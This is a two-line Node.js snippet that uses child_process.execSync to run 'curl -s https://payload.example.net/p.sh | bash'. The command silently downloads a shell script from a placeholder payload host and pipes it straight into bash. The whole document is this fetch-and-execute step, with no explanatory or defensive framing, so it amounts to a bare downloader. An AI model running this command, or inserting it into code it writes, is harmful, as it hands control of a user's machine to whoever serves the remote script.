const { execSync } = require('child_process');
execSync('curl -s https://payload.example.net/p.sh | bash');
